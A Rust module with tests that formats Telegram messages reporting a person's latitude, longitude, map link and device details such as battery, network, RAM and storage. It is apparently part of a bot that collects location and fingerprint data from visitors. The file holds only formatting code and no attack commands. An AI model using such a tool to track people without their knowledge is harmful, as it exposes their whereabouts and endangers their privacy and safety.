use chrono::{DateTime, FixedOffset};
use serde::Deserialize;
use std::fmt::Write as _;

use crate::intake::LocationReport;

/// Telegram parse mode the built-in templates are written for.
pub const PARSE_MODE: &str = "Markdown";

const UNKNOWN: &str = "Unknown";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MessageTemplate {
    /// Every collected field on its own line.
    #[default]
    Detailed,
    /// Coordinates, a map link and the user agent.
    Compact,
}

impl MessageTemplate {
    pub fn render(&self, report: &LocationReport, received_at: DateTime<FixedOffset>) -> String {
        match self {
            MessageTemplate::Detailed => detailed(report, received_at),
            MessageTemplate::Compact => compact(report),
        }
    }
}

fn or_unknown(value: &Option<String>) -> &str {
    value.as_deref().unwrap_or(UNKNOWN)
}

fn detailed(report: &LocationReport, received_at: DateTime<FixedOffset>) -> String {
    let device = &report.device;
    let charging = if device.battery_charging {
        "Charging"
    } else {
        "Not Charging"
    };

    let mut text = String::from("*📌 New Data Received:*\n\n");
    // writing into a String cannot fail
    let _ = writeln!(text, "*📍 Latitude:* {}", report.latitude);
    let _ = writeln!(text, "*📍 Longitude:* {}", report.longitude);
    let _ = writeln!(text, "*📱 User Agent:* {}", or_unknown(&device.user_agent));
    let _ = writeln!(text, "*📅 Date:* {}", received_at.format("%Y-%m-%d %H:%M:%S"));
    let _ = writeln!(text, "*🌍 Timezone:* {}", or_unknown(&device.timezone));
    let _ = writeln!(
        text,
        "*🔋 Battery:* {}% ({})",
        or_unknown(&device.battery_level),
        charging
    );
    let _ = writeln!(
        text,
        "*📶 Network:* {} ({} Mbps)",
        or_unknown(&device.network_type),
        or_unknown(&device.network_speed)
    );
    let _ = writeln!(text, "*🌐 Country Code:* {}", or_unknown(&device.country_code));
    let _ = writeln!(text, "*💾 RAM:* {} GB", or_unknown(&device.ram));
    let _ = write!(text, "*💽 Storage:* {}", or_unknown(&device.storage));
    text
}

fn compact(report: &LocationReport) -> String {
    format!(
        "*📍 {}, {}*\nhttps://maps.google.com/?q={},{}\n{}",
        report.latitude,
        report.longitude,
        report.latitude,
        report.longitude,
        or_unknown(&report.device.user_agent)
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::intake::DeviceInfo;
    use chrono::TimeZone;

    fn report(device: DeviceInfo) -> LocationReport {
        LocationReport {
            chat_id: "123".into(),
            latitude: "40.0".into(),
            longitude: "-74.0".into(),
            device,
        }
    }

    fn at() -> DateTime<FixedOffset> {
        FixedOffset::east_opt(0)
            .unwrap()
            .with_ymd_and_hms(2026, 3, 14, 15, 9, 26)
            .unwrap()
    }

    #[test]
    fn detailed_fills_unknowns() {
        let text = MessageTemplate::Detailed.render(&report(DeviceInfo::default()), at());

        assert!(text.starts_with("*📌 New Data Received:*\n\n"));
        assert!(text.contains("*📍 Latitude:* 40.0\n"));
        assert!(text.contains("*📍 Longitude:* -74.0\n"));
        assert!(text.contains("*📅 Date:* 2026-03-14 15:09:26\n"));
        assert!(text.contains("*🔋 Battery:* Unknown% (Not Charging)\n"));
        assert!(text.contains("*📶 Network:* Unknown (Unknown Mbps)\n"));
        assert!(text.ends_with("*💽 Storage:* Unknown"));
    }

    #[test]
    fn detailed_uses_device_values() {
        let device = DeviceInfo {
            battery_level: Some("55".into()),
            battery_charging: true,
            network_type: Some("wifi".into()),
            network_speed: Some("10".into()),
            ram: Some("8".into()),
            ..DeviceInfo::default()
        };
        let text = MessageTemplate::Detailed.render(&report(device), at());

        assert!(text.contains("*🔋 Battery:* 55% (Charging)\n"));
        assert!(text.contains("*📶 Network:* wifi (10 Mbps)\n"));
        assert!(text.contains("*💾 RAM:* 8 GB\n"));
    }

    #[test]
    fn compact_links_to_map() {
        let text = MessageTemplate::Compact.render(&report(DeviceInfo::default()), at());
        assert_eq!(
            text,
            "*📍 40.0, -74.0*\nhttps://maps.google.com/?q=40.0,-74.0\nUnknown"
        );
    }
}
